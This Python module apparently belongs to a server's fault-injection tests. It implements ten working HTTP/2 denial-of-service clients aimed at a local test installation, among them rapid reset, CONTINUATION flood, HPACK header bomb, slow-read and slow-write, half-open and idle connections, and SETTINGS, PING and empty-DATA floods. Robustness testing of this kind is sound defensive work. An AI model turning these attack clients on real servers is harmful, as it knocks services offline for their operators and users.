"""Hostile HTTP/2 clients as a process of their own: `python -m tests.fault.network.attackers NAME DIR PORT SECONDS`.

Each attacks until SECONDS are over, on a busy machine until it has sent something worth the name, and connects again
when the server ends its connection. The process prints, as JSON, how many connections it made, and how many frames,
calls or waits it spent on them.
"""

import json
import socket
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.support import http2
from tests.support.http2 import ConnectionClosed, Http2
from tests.support.sandbox import Installation

IDLE_CONNECTIONS = 400
LEAST_SENT = 50
LONGEST_MORE = 30.0
TOKEN = "hostile-client.token"
"""The file in DIR with the token of a client of the attackers' own."""


@dataclass
class Attack:
    """One attack under way, and what it did. Threads share it."""

    installation: Installation
    end: float
    connections: int = 0
    sent: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def connect(self) -> Http2:
        connection = Http2(self.installation)
        with self.lock:
            self.connections += 1
        return connection

    def count(self, sent: int) -> None:
        with self.lock:
            self.sent += sent

    def goes_on(self) -> bool:
        now = time.monotonic()
        return now < self.end or (self.sent < LEAST_SENT and now < self.end + LONGEST_MORE)

    def pause(self, seconds: float = 0.1) -> None:
        time.sleep(max(0.0, min(seconds, self.end - time.monotonic())))

    def repeat(self, frames: bytes, count: int, connection: Http2) -> None:
        """Sends the same bytes again and again."""
        while self.goes_on():
            connection.send(frames)
            self.count(count)


def rapid_reset(attack: Attack) -> None:
    """CVE-2023-44487: streams that are opened and reset at once."""
    block = http2.header_block(http2.grpc_headers(http2.SIGN, token="nobody"))
    with attack.connect() as connection:
        while attack.goes_on():
            streams = connection.take_streams(100)
            connection.send(b"".join(http2.headers_frame(one, block) + http2.reset_frame(one) for one in streams))
            attack.count(len(streams))


def continuation_flood(attack: Attack) -> None:
    """CVE-2024-27316 and its kin: a header block that never ends."""
    start = http2.header_block(http2.grpc_headers(http2.SIGN))
    more = http2.continuation_frame(1, http2.header_block([("x-more", "b" * 8000)]))
    with attack.connect() as connection:
        connection.send(http2.headers_frame(1, start, end_headers=False))
        attack.repeat(more * 10, 10, connection)


def header_bomb(attack: Attack) -> None:
    """Header blocks of 4 KB that unpack to 4,000 headers, far beyond the limit; one byte each (RFC 7541, 6.1)."""
    block = http2.header_block(http2.grpc_headers(http2.SIGN)) + b"\x8f" * 4000
    with attack.connect() as connection:
        while attack.goes_on():
            (stream,) = connection.take_streams(1)
            connection.send(http2.headers_frame(stream, block) + http2.reset_frame(stream))
            attack.count(1)


def slow_reader(attack: Attack) -> None:
    """Calls whose answers cannot be sent: the window stays closed."""
    block = http2.header_block(http2.grpc_headers("/grpc.health.v1.Health/Check"))
    body = http2.grpc_message(b"")
    with Http2(attack.installation, settings={4: 0}) as connection:
        attack.connections += 1
        while attack.goes_on():
            (stream,) = connection.take_streams(1)
            connection.send(http2.headers_frame(stream, block) + http2.data_frame(stream, body, end_stream=True))
            attack.count(1)
            attack.pause(0.002)


def slow_writer(attack: Attack) -> None:
    """Messages that drip, byte by byte, on as many streams as are allowed."""
    token = (attack.installation.directory / TOKEN).read_text()
    block = http2.header_block(http2.grpc_headers(http2.SIGN, token=token))
    with attack.connect() as connection:
        streams = connection.take_streams(100)
        connection.send(b"".join(http2.headers_frame(stream, block) for stream in streams))
        message = http2.grpc_message(b"x" * 1000)
        for position in range(len(message)):
            connection.send(b"".join(http2.data_frame(stream, message[position : position + 1]) for stream in streams))
            attack.count(len(streams))
            attack.pause(0.05)
            if not attack.goes_on():
                return


def half_open(attack: Attack) -> None:
    """TCP connections on which no handshake comes, or half of one."""
    sockets: list[socket.socket] = []
    try:
        while attack.goes_on():
            opened = socket.create_connection(("127.0.0.1", attack.installation.token_port), timeout=20)
            sockets.append(opened)
            attack.connections += 1
            if len(sockets) % 2:
                opened.sendall(b"\x16\x03\x01\x02\x00\x01")  # the beginning of a ClientHello
            attack.count(1)
            if len(sockets) >= IDLE_CONNECTIONS:
                attack.pause(1)
    finally:
        for opened in sockets:
            opened.close()


def idle(attack: Attack) -> None:
    """Connections that say no more than the preface, held."""
    held: list[Http2] = []
    try:
        while attack.goes_on():
            if len(held) >= IDLE_CONNECTIONS:
                attack.pause()
                continue
            held.append(attack.connect())
            attack.count(1)
    finally:
        for connection in held:
            connection.close()


def settings_flood(attack: Attack) -> None:
    """SETTINGS frames, each of which the server has to acknowledge."""
    with attack.connect() as connection:
        attack.repeat(http2.settings_frame({3: 100, 4: 65535}) * 100, 100, connection)


def ping_flood(attack: Attack) -> None:
    """PING frames, each of which the server has to answer."""
    with attack.connect() as connection:
        attack.repeat(http2.ping_frame() * 100, 100, connection)


def empty_data(attack: Attack) -> None:
    """CVE-2019-9518: DATA frames without data on a call that goes on."""
    block = http2.header_block(http2.grpc_headers(http2.SIGN, token="nobody"))
    with attack.connect() as connection:
        (stream,) = connection.take_streams(1)
        connection.send(http2.headers_frame(stream, block))
        attack.repeat(http2.data_frame(stream, b"") * 100, 100, connection)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset, continuation_flood, header_bomb, slow_reader, slow_writer, half_open, idle,
        settings_flood, ping_flood, empty_data,
    )
}  # fmt: skip
_THREADS = 2


def _until_the_end(attack: Attack, act: Callable[[Attack], None]) -> None:
    while attack.goes_on():
        try:
            act(attack)
        except (ConnectionClosed, OSError):
            attack.pause(0.01)


def main(name: str, directory: str, port: str, seconds: str) -> None:
    """Attacks by some threads, then tells what they did."""
    installation = Installation(Path(directory))
    installation.token_port = int(port)
    attack = Attack(installation, time.monotonic() + float(seconds))
    threads = [threading.Thread(target=_until_the_end, args=(attack, ATTACKS[name])) for _ in range(_THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"connections": attack.connections, "sent": attack.sent}))  # noqa: T201 - its answer


if __name__ == "__main__":
    main(*sys.argv[1:])
